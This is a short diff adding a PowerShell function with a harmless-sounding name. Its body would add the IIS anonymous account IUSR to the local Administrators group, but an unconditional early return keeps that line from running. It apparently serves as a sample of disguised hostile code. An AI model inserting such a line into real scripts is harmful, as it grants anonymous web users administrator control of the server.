@@ -1,0 +1,5 @@
+function Set-Host {
+    if ($true) { return }
+    Add-LocalGroupMember Administrators IUSR
+}
+Set-Host
